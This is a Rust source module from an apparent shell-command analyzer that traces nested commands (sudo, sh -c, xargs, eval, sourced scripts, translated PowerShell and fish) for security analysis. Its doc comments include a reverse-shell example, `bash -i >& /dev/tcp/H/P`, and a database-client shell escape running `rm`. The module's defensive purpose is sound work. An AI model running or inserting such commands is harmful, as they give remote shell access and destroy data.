//! Commands run by other commands: from words, from scripts, from standard input and from files.

use std::rc::Rc;

use super::dialects::{is_fish_script, shebang_dialects};
use super::flow::{Flow, Jump};
use super::simple::ExpandedCommand;
use super::{ARGV_LEVELS, Frame, SpanTracking, WalkContext, excerpt, generators};
use crate::analysis::{CommandScope, InheritedEnvironment};
use crate::argv::program_name;
use crate::dialect::{DialectFeature, DialectSet, ScriptLanguage};
use crate::evaluated::EvaluatorKind;
use crate::expand::ExpansionContext;
use crate::fish;
use crate::nested::{
    NestedCommand, Runnable, commands_nested_in, environment_commands, nested_from_input, reads_statements,
};
use crate::network::{has_remote_server, names_only_this_machine};
use crate::open_files::{OpenFiles, descriptor_number};
use crate::parse::CommandNode;
use crate::powershell;
use crate::prints;
use crate::state::{Alias, PositionalParameters, ShellState, ShellVariable, VariableValue};
use crate::stream::{CommandId, InputStream, ShellValue, StreamContent, Writer, insert_ids};
use crate::translation::Translation;
use crate::word::{Cause, Directory, Unknown, Word, WordPart};

/// The cost of a word of a command that another command runs, in steps.
const WORD_COST: usize = 16;

/// The number of bytes of a database client's statements (`mysql <<< '\! rm x'`) that are read per step.
const STATEMENT_BYTES_PER_STEP: usize = 8;

/// The cost of a byte of a text that is translated from PowerShell, cmd or fish, in steps.
const TRANSLATION_COST: usize = 2;

/// The function and the alias of a name, which do not exist while `command name` or `builtin name` runs the name.
struct BypassedNames {
    function: Option<Rc<CommandNode>>,
    alias: Option<Alias>,
}

impl BypassedNames {
    /// Removes the function and the alias of a name from a state.
    fn take(state: &mut ShellState, name: &str) -> Self {
        let ShellState { functions, aliases, .. } = state;
        let function = functions.contains_key(name).then(|| Rc::make_mut(functions).remove(name)).flatten();
        let alias = aliases.contains_key(name).then(|| Rc::make_mut(aliases).remove(name)).flatten();
        Self { function, alias }
    }

    /// Puts the function and the alias back, unless the command itself has defined new ones.
    fn restore(self, state: &mut ShellState, name: &str) {
        if let Some(function) = self.function {
            Rc::make_mut(&mut state.functions).entry(name.to_owned()).or_insert(function);
        }
        if let Some(alias) = self.alias {
            Rc::make_mut(&mut state.aliases).entry(name.to_owned()).or_insert(alias);
        }
    }
}

impl Frame<'_> {
    /// Walks the commands that a command runs (`sudo rm x`, `sh -c '…'`, `xargs rm`); `None` if it runs no command.
    pub(super) fn nested_commands(&mut self, command: &ExpandedCommand<'_>) -> Option<Flow> {
        let mut flow: Option<Flow> = None;
        let mut files = self.program_files(command);
        files.extend(self.loaded_files(command));
        files.extend(self.searched_files(command));
        files.extend(self.git_setup(command));
        files.extend(self.copied_program(command));
        files.extend(self.equivalent_calls(command));
        files.extend(folded_program(command));
        files.extend(self.named_program(command));
        // The record of the command, in `commands`, already has the expanded words.
        let reads_statements = match &command.input.content {
            // Many commands may share one input. Each of them reads it, so each is charged for it.
            StreamContent::Known(text)
                if self.interpreter.commands.get(command.id.0).is_some_and(|it| reads_statements(&it.words)) =>
            {
                let letters: usize = text.word.parts.iter().filter_map(WordPart::text).map(str::len).sum();
                self.interpreter.spend(letters / STATEMENT_BYTES_PER_STEP)
            }
            _ => false,
        };
        let recorded = self.interpreter.commands.get(command.id.0)?;
        let variables = recorded.environment.len();
        let stdin = match &command.input.content {
            StreamContent::Known(text) if reads_statements => nested_from_input(&recorded.words, &text.word),
            _ => Vec::new(),
        };
        let nested: Vec<NestedCommand> = commands_nested_in(recorded)
            .into_iter()
            .chain(stdin)
            .chain(environment_commands(&recorded.words, &recorded.environment))
            .chain(files)
            .collect();
        let installed = self.installed_programs(command, &nested);
        // Each variable of the environment is compared with the variables after it.
        self.interpreter.spend(variables * variables / 8);
        for inner in nested.into_iter().chain(installed) {
            if !self.interpreter.spend(WORD_COST * command.values.len()) {
                break;
            }
            let next = self.walk_nested(command, &inner);
            flow = Some(match flow {
                Some(flow) => flow.concat(next),
                None => next,
            });
        }
        flow
    }

    /// Walks one of the commands that a command runs: as words, as a script, from its input, from a file, or as code
    /// in another language.
    pub(super) fn walk_nested(&mut self, command: &ExpandedCommand<'_>, inner: &NestedCommand) -> Flow {
        let mut context = self.nested_context(command, inner);
        match &inner.runnable {
            Runnable::Argv(words) => self.run_words(command, inner, &context, words),
            Runnable::Script(text, arguments) => {
                let text = self.inherit(&command.words_with_output(), command, text);
                self.add_code_writers(command.id, &text.writers);
                if matches!(command.name(), Some("mapfile" | "readarray")) {
                    self.with_context(&context).note_evaluation(EvaluatorKind::Script, &text);
                    return self.read_with_callback(command, inner, &context, &text);
                }
                let arguments = self.arguments(command, inner, arguments, ArgumentZero::First);
                self.walk_nested_script(command, inner, &mut context, &text, arguments)
            }
            Runnable::Input(arguments) => {
                let arguments = self.arguments(command, inner, arguments, ArgumentZero::Program);
                let mut words = command.values.iter().skip(1).filter_map(|value| value.word.known_text());
                let input = match words.find(|word| descriptor_number(word) == Some(0)) {
                    // A file that is opened through this name, such as `/dev/stdin`, is read from its beginning.
                    Some(name) if command.has_file_input() => {
                        Rc::new(self.file_input_with(&Word::text(name), &command.redirected.descriptors))
                    }
                    _ => Rc::clone(&command.input),
                };
                self.run_input(command, inner, &mut context, &input, arguments)
            }
            Runnable::File(file) => {
                if let Some((path, why)) = self.possible_written_file(file) {
                    let doubt = inner.doubt.clone().or(Some(why));
                    let runnable = Runnable::File(path);
                    return self.walk_nested(command, &NestedCommand { runnable, doubt, ..inner.clone() });
                }
                self.note_script(command, inner, &context, file);
                let after_file = command.values.iter().position(|value| value.word == *file).map_or(0, |at| at + 1);
                let words = command.values.iter().skip(after_file).map(|value| value.word.clone());
                // In a separate process, `$0` is the file; after `.`, `$0` does not change.
                let file_as_zero = (!inner.setting.in_this_shell).then(|| file.clone());
                let zero = if file_as_zero.is_some() { ArgumentZero::First } else { ArgumentZero::Program };
                let words: Vec<Word> = file_as_zero.into_iter().chain(words).collect();
                let arguments = self.arguments(command, inner, &words, zero);
                let input = self.read_file(command, file);
                self.run_input(command, inner, &mut context, &input, arguments)
            }
            Runnable::Foreign(code) => {
                self.note_code_file(command, inner, &context, code);
                self.walk_foreign(command, &context, code)
            }
        }
    }

    /// Returns the context of a command that `command` runs: the context and the input of `command`, which becomes the
    /// last entry of `via`, changed by the settings of `inner`. Of their two scopes, the farther one applies, because a
    /// command that is run in a container stays there.
    fn nested_context(&self, command: &ExpandedCommand<'_>, inner: &NestedCommand) -> WalkContext {
        let mut context = self.context.clone();
        context.via.push(command.id);
        context.doubt = context.doubt.or_else(|| inner.doubt.clone());
        if let Some(scope) = inner.setting.scope {
            let outer = self.interpreter.commands.get(command.id.0);
            let scope = match scope {
                CommandScope::Remote if outer.is_some_and(names_only_this_machine) => CommandScope::Local,
                scope => outer.filter(|outer| has_remote_server(outer)).map_or(scope, |_| CommandScope::Remote),
            };
            context.scope = scope.max(context.scope);
        }
        context.may_be_task |= inner.setting.may_be_task;
        context.in_loop |= inner.setting.repeats;
        context.in_background |= inner.setting.in_background;
        context.input = Rc::clone(&command.input);
        // A child in another container or on another machine inherits no open files.
        if context.scope == self.context.scope {
            self.inherit_sockets(command, &mut context);
        }
        context
    }

    /// Adds the network connections of a command to the context of its child, which inherits them:
    /// `nohup bash -i >& /dev/tcp/H/P`.
    fn inherit_sockets(&self, command: &ExpandedCommand<'_>, context: &mut WalkContext) {
        let Some(recorded) = self.interpreter.commands.get(command.id.0) else { return };
        for redirect in recorded.redirects.iter().filter(|redirect| redirect.target.socket().is_some()) {
            if !context.redirects.iter().any(|(known, _)| known == redirect) {
                Rc::make_mut(&mut context.redirects).push((redirect.clone(), self.state.cwd.clone()));
            }
        }
    }

    /// Runs words as a command, in a separate process or in this shell (`command`, `builtin`).
    fn run_words(
        &mut self,
        command: &ExpandedCommand<'_>,
        inner: &NestedCommand,
        context: &WalkContext,
        words: &[Word],
    ) -> Flow {
        let sources = command.words_with_output();
        let values: Vec<ShellValue> = words.iter().map(|word| self.inherit(&sources, command, word)).collect();
        // In zsh, `command` only runs programs.
        let runs_program = command.name() == Some("command") && self.state.reading.has(DialectFeature::ZshSyntax);
        if inner.setting.in_this_shell && inner.setting.environment.is_empty() && !runs_program {
            return self.run_in_this_shell(command, inner, context, words, &values);
        }
        let mut state = self.state.clone();
        state.functions = Rc::default();
        state.aliases = Rc::default();
        state.descriptors = command.redirected.body_descriptors();
        if inner.setting.takes_input_words {
            // The children of `xargs` do not get its standard input.
            state.descriptors.files.may_be_stream(0);
        }
        self.apply_process_settings(&mut state, inner, context);
        let flow = self.with_state(&mut state, context).record(words.to_vec(), &values).stop_jump(Jump::Shell);
        self.state.consumed = state.consumed;
        flow
    }

    /// Runs words as a command of this shell (`command name`, `builtin name`). The function and the alias of that name
    /// are bypassed. Other names, for example in an `eval`, still refer to their functions.
    fn run_in_this_shell(
        &mut self,
        command: &ExpandedCommand<'_>,
        inner: &NestedCommand,
        context: &WalkContext,
        words: &[Word],
        values: &[ShellValue],
    ) -> Flow {
        let name = words.first().and_then(Word::known_text).unwrap_or_default();
        let bypassed = BypassedNames::take(self.state, name);
        let outer_descriptors = self.enter_body(command.redirected);
        let outer_hidden = self.state.hidden.clone();
        if let Some(why) = hidden_environment(inner) {
            self.state.hidden.get_or_insert(why);
        }
        let flow = self.with_context(context).record(words.to_vec(), values);
        if hidden_environment(inner).is_some() {
            self.state.hidden = outer_hidden;
        }
        self.leave_body(&outer_descriptors, command.redirected);
        bypassed.restore(self.state, name);
        flow
    }

    /// Records a command whose words are already expanded, and walks its effects. If it is nested too deeply, it is
    /// recorded as opaque.
    pub(super) fn record(&mut self, words: Vec<Word>, values: &[ShellValue]) -> Flow {
        if !self.interpreter.enter(ARGV_LEVELS) {
            let text: Vec<String> = words.iter().map(Word::display_text).collect();
            self.add_opaque(Cause::TooDeep, excerpt(&text.join(" ")), Some(text.join(" ")));
            return Flow::unknown();
        }
        let flow = self.walk_words(words, values);
        self.interpreter.leave(ARGV_LEVELS);
        flow
    }

    /// Records a command with expanded words and without redirections, and walks its effects.
    fn walk_words(&mut self, words: Vec<Word>, values: &[ShellValue]) -> Flow {
        let id = self.reserve_command();
        let redirected = self.no_redirects();
        self.fill_record(id, words, Vec::new(), &redirected);
        let from = self.add_value_writers(Vec::new(), values);
        self.record_passed_writers(id, values, from);
        let command =
            ExpandedCommand { id, values, declared_assignments: &[], redirected: &redirected, input: self.stdin() };
        self.apply_effects(&command)
    }

    /// Walks a text as a shell script that a command runs, in this shell or in a child. If the text is unknown, records
    /// opaque code and returns an unknown flow.
    pub(super) fn walk_nested_script(
        &mut self,
        command: &ExpandedCommand<'_>,
        inner: &NestedCommand,
        context: &mut WalkContext,
        text: &ShellValue,
        arguments: Option<PositionalParameters>,
    ) -> Flow {
        context.span_tracking = SpanTracking::Dropped;
        self.with_context(context).note_evaluation(EvaluatorKind::Script, text);
        if generators::is_output(text) && self.is_generated(&text.writers) {
            return Flow::empty();
        }
        let Some(script) = self.script_source(text) else {
            let why =
                text.word.unknown_reason().unwrap_or_else(|| Unknown::new(Cause::Decoded, text.word.display_text()));
            self.with_context(context).add_opaque(why.cause, why.word, None);
            return Flow::unknown();
        };
        self.note_embedded_output(context, text);
        let is_file = matches!(inner.runnable, Runnable::File(_));
        let language = match inner.setting.language {
            ScriptLanguage::Bourne if is_file && is_fish_script(text) => ScriptLanguage::Fish,
            language => language,
        };
        let script = self.with_context(context).translate(language, script);
        if inner.setting.in_this_shell {
            return self.walk_in_this_shell(command, inner, context, &script, arguments);
        }
        let mut state = self.state.child(arguments.unwrap_or(PositionalParameters::Unknown));
        state.descriptors = command.redirected.body_descriptors();
        self.apply_process_settings(&mut state, inner, context);
        let readers = match &inner.runnable {
            _ if language != ScriptLanguage::Bourne => DialectSet::BASH,
            Runnable::File(_) if inner.setting.reader.is_empty() => {
                shebang_dialects(text).unwrap_or(inner.setting.reader)
            }
            _ => inner.setting.reader,
        };
        let doubts = self.interpreter.doubts;
        let mut frame = self.with_state(&mut state, context);
        inner.setting.options.iter().for_each(|(option, sign)| frame.set_option(option, *sign));
        let readers = if language == ScriptLanguage::Bourne { frame.possible_dialects(readers) } else { readers };
        let flow =
            frame.walk_each_dialect(readers, &script, |frame| frame.walk_subshell_text(&script)).stop_jump(Jump::Shell);
        self.state.consumed = state.consumed;
        self.after_subshell(flow, doubts)
    }

    /// Walks a script that changes the state of this shell: `eval`, `.`.
    fn walk_in_this_shell(
        &mut self,
        command: &ExpandedCommand<'_>,
        inner: &NestedCommand,
        context: &WalkContext,
        script: &str,
        arguments: Option<PositionalParameters>,
    ) -> Flow {
        let outer_arguments =
            arguments.map(|arguments| std::mem::replace(&mut self.state.arguments, Rc::new(arguments)));
        let outer_descriptors = self.enter_body(command.redirected);
        let flow = match inner.runnable {
            // A `return` leaves a sourced script.
            Runnable::File(_) => {
                let jumps = std::mem::take(&mut self.interpreter.jumps);
                let flow = self.with_context(context).walk_script(script);
                self.join_jumps(jumps, Jump::Function);
                flow.stop_jump(Jump::Function)
            }
            _ => self.with_context(context).walk_script(script),
        };
        self.leave_body(&outer_descriptors, command.redirected);
        if let Some(outer_arguments) = outer_arguments {
            self.state.arguments = outer_arguments;
        }
        flow
    }

    /// Translates a text into Bourne shell code, and records the parts that cannot be translated as opaque.
    pub(super) fn translate(&mut self, language: ScriptLanguage, text: String) -> String {
        let Translation { script, unread } = match language {
            ScriptLanguage::Bourne => return text,
            ScriptLanguage::PowerShell => powershell::translate(&text),
            ScriptLanguage::Cmd => powershell::translate_batch(&text),
            ScriptLanguage::Fish => fish::translate(&text),
        };
        self.interpreter.spend(TRANSLATION_COST * (text.len() + script.len()));
        for rest in unread {
            self.add_opaque(Cause::Foreign, excerpt(&rest), Some(rest));
        }
        script
    }

    /// If a part of a script is the unknown output of a command, records it as opaque, because it may contain commands.
    /// The output of a program that only prints data, such as `date`, is not recorded.
    fn note_embedded_output(&mut self, context: &WalkContext, text: &ShellValue) {
        let unknown_output = text.word.parts.iter().find_map(|part| match part {
            WordPart::Unknown(part) if part.reason.cause == Cause::Output => Some(part.reason.word.clone()),
            _ => None,
        });
        let count = self.interpreter.commands.len();
        let prints_only_data = |writer: &Writer| match writer {
            Writer::Command(id) => id.0 >= count || self.interpreter.name(*id).is_some_and(prints::is_data_program),
            Writer::Deferred(_) => true,
        };
        if let Some(word) = unknown_output
            && (text.writers.is_empty() || !text.writers.iter().all(prints_only_data))
        {
            self.with_context(context).add_opaque(Cause::Output, word, None);
        }
    }

    /// Walks the content of an input as a script. If it is unknown, it is recorded as opaque.
    fn run_input(
        &mut self,
        command: &ExpandedCommand<'_>,
        inner: &NestedCommand,
        context: &mut WalkContext,
        input: &InputStream,
        arguments: Option<PositionalParameters>,
    ) -> Flow {
        self.add_code_writers(command.id, &input.writers);
        let shown_file = match &inner.runnable {
            Runnable::File(file) => file.display_text(),
            _ => String::new(),
        };
        match &input.content {
            StreamContent::Unset => Flow::empty(),
            StreamContent::Known(text) => {
                if matches!(inner.runnable, Runnable::Input(_)) {
                    // The commands of the script read the rest of the same input after the script, which is unknown.
                    context.input = Rc::default();
                }
                self.walk_nested_script(command, inner, context, &text.clone().without_nul(), arguments)
            }
            StreamContent::File(file) => {
                if let Runnable::Input(arguments) = &inner.runnable {
                    let words = std::iter::once(file).chain(arguments).cloned().collect();
                    self.note_script_with(command, inner, context, words);
                }
                self.record_unseen_script(context, file);
                if inner.setting.in_this_shell {
                    self.state.hide(Unknown::new(Cause::ScriptFile, file.display_text()));
                }
                Flow::unknown()
            }
            StreamContent::Program(literals) => {
                self.record_program(context, literals);
                Flow::unknown()
            }
            StreamContent::Unknown if self.is_generated(&input.writers) => Flow::empty(),
            StreamContent::Unknown => {
                self.with_context(context).add_opaque(Cause::Decoded, shown_file, None);
                Flow::unknown()
            }
        }
    }

    /// Returns the content of a file that a command reads: that of its standard input for `-` and `/dev/stdin`.
    pub(super) fn read_file(&mut self, command: &ExpandedCommand<'_>, file: &Word) -> InputStream {
        match file.known_text() {
            Some("-") => (*command.input).clone(),
            Some(name) if descriptor_number(name) == Some(0) && !command.has_file_input() => (*command.input).clone(),
            _ => self.file_input_with(file, &command.redirected.descriptors),
        }
    }

    /// Records a script file whose content is not known as opaque.
    fn record_unseen_script(&mut self, context: &WalkContext, file: &Word) {
        let shown = file.display_text();
        let writers = self.possible_writers(file);
        if !writers.is_empty() {
            // The text may have written the file. The opaque code names the possible writers and the command that runs
            // the file, so that rules about either of them match.
            let names = writers
                .iter()
                .filter_map(|writer| writer.command())
                .chain(context.via.last().copied())
                .filter_map(|id| self.interpreter.name(id));
            let names: Vec<&str> = names.collect();
            let text = format!("{} {}", file.literal(), names.join(" "));
            self.with_context(context).add_opaque(Cause::ScriptFile, shown.clone(), Some(text));
        }
        self.with_context(context).add_opaque(Cause::ScriptFile, shown, Some(file.literal()));
    }

    /// Records writers whose output a command executes.
    pub(super) fn add_code_writers(&mut self, id: CommandId, from: &[Writer]) {
        if let Some(sources) = self.interpreter.sources.get_mut(id.0) {
            insert_ids(&mut sources.code, from);
        }
        self.interpreter.spend(from.len());
    }

    /// Returns `$0`, `$1`, … of a script, given the words after it; `None` if the script keeps those of this shell
    /// (`eval`).
    fn arguments(
        &mut self,
        command: &ExpandedCommand<'_>,
        inner: &NestedCommand,
        words: &[Word],
        zero: ArgumentZero,
    ) -> Option<PositionalParameters> {
        if inner.setting.in_this_shell && words.is_empty() {
            return None;
        }
        let sources = command.words_with_output();
        let mut values = words.iter().map(|word| self.inherit(&sources, command, word));
        let program = || ShellValue::text(command.name().unwrap_or("bash"));
        let zero = match zero {
            ArgumentZero::First => values.next().unwrap_or_else(program),
            ArgumentZero::Program => program(),
        };
        Some(PositionalParameters::Known(zero, values.collect()))
    }

    /// Applies to `state` how `inner` sets up the process that runs the code: `env -i`, `-C dir`, variables.
    fn apply_process_settings(&mut self, state: &mut ShellState, inner: &NestedCommand, context: &WalkContext) {
        if inner.setting.closes_files {
            state.descriptors.files.may_be_closed();
        }
        if context.scope != self.context.scope {
            // A shell on another machine has none of this one's state.
            let words = context.via.last().and_then(|id| self.interpreter.name(*id)).unwrap_or_default().to_owned();
            state.variables = Rc::default();
            state.home = None;
            state.previous = None;
            state.descriptors.files = OpenFiles::default();
            if !inner.setting.shares_directory {
                state.cwd = Directory::Unknown(Unknown::new(Cause::Directory, words));
            }
        }
        if let Some(why) = hidden_environment(inner) {
            state.hide(why);
        }
        if let Some(directory) = &inner.setting.directory {
            state.cwd = state.directory_at(directory);
        }
        if inner.setting.inherited == InheritedEnvironment::Nothing {
            state.clear_environment();
        }
        if inner.setting.environment.is_empty() {
            return;
        }
        self.interpreter.spend(state.variables.len());
        for assignment in &inner.setting.environment {
            let binding = match &assignment.value {
                Some(word) => {
                    VariableValue::One(ShellValue { word: Word { span: None, ..word.clone() }, writers: Vec::new() })
                }
                None => VariableValue::Unset,
            };
            if let VariableValue::One(value) = &binding {
                self.note_assigned(&assignment.name, value);
            }
            self.function_in_environment(state, &assignment.name, assignment.value.as_ref());
            state.set(&assignment.name, binding.clone());
            let variable = ShellVariable { binding, is_exported: true };
            Rc::make_mut(&mut state.variables).insert(assignment.name.clone(), variable);
        }
    }
}

/// Returns a command with the name of its program in lower case, if only that name has a record: on a file system that
/// ignores case, `RM` runs `rm`.
fn folded_program(command: &ExpandedCommand<'_>) -> Option<NestedCommand> {
    let name = command.name().filter(|name| name.bytes().any(|byte| byte.is_ascii_uppercase()))?;
    let base = program_name(&command.values.first()?.word)?;
    let lower = base.to_ascii_lowercase();
    if crate::programs::program(base).is_some() || crate::programs::program(&lower).is_none() {
        return None;
    }
    let words = std::iter::once(Word::text(lower)).chain(command.values.iter().skip(1).map(|value| value.word.clone()));
    let doubt = Some(Unknown::new(Cause::Alias, name));
    Some(NestedCommand { doubt, ..NestedCommand::from(Runnable::Argv(words.collect())) })
}

/// Returns why the environment of the code may have more variables: an unknown word may be an assignment, as in
/// `env $X make`. `None` if there is no such word.
fn hidden_environment(inner: &NestedCommand) -> Option<Unknown> {
    let may_set =
        |why: &&Unknown| !matches!(why.cause, Cause::Option | Cause::EarlierCommand | Cause::Alias | Cause::Glob);
    inner.doubt.as_ref().filter(may_set).cloned()
}

/// Which word becomes `$0` of a script.
#[derive(Clone, Copy, PartialEq, Eq)]
enum ArgumentZero {
    /// The first word after the script.
    First,
    /// The name of the shell.
    Program,
}

impl ExpandedCommand<'_> {
    /// Returns the words of the command that contain output of other commands.
    pub(super) fn words_with_output(&self) -> Vec<&ShellValue> {
        self.values.iter().filter(|value| !value.writers.is_empty()).collect()
    }
}

impl Frame<'_> {
    /// Returns a word of a nested command as a value, with the writers of the command's words that are in it: those
    /// whose known text, or one of whose unknown parts, the word contains.
    pub(super) fn inherit(
        &mut self,
        sources: &[&ShellValue],
        command: &ExpandedCommand<'_>,
        word: &Word,
    ) -> ShellValue {
        let mut value = ShellValue { word: word.clone(), writers: Vec::new() };
        let (known, unknown) = (word.literal(), unknown_parts(word));
        for source in sources {
            if !self.interpreter.spend(source.writers.len()) {
                break;
            }
            let is_contained = match source.word.known_text() {
                Some(text) => !text.is_empty() && known.contains(text),
                None => unknown_parts(&source.word).iter().any(|why| unknown.contains(why)),
            };
            if is_contained {
                value.add_writers(&source.writers);
            }
        }
        if unknown.iter().any(|why| why.cause == Cause::Input) {
            value.add_writers(&command.input.writers);
        }
        value
    }
}

/// Returns the reasons of the unknown parts of a word, except for names to which a glob was expanded.
fn unknown_parts(word: &Word) -> Vec<&Unknown> {
    let unknowns = word.parts.iter().filter_map(|part| match part {
        WordPart::Unknown(unknown) => unknown.matched_glob().is_none().then_some(&unknown.reason),
        WordPart::Text(_) | WordPart::Glob(_) => None,
    });
    unknowns.collect()
}
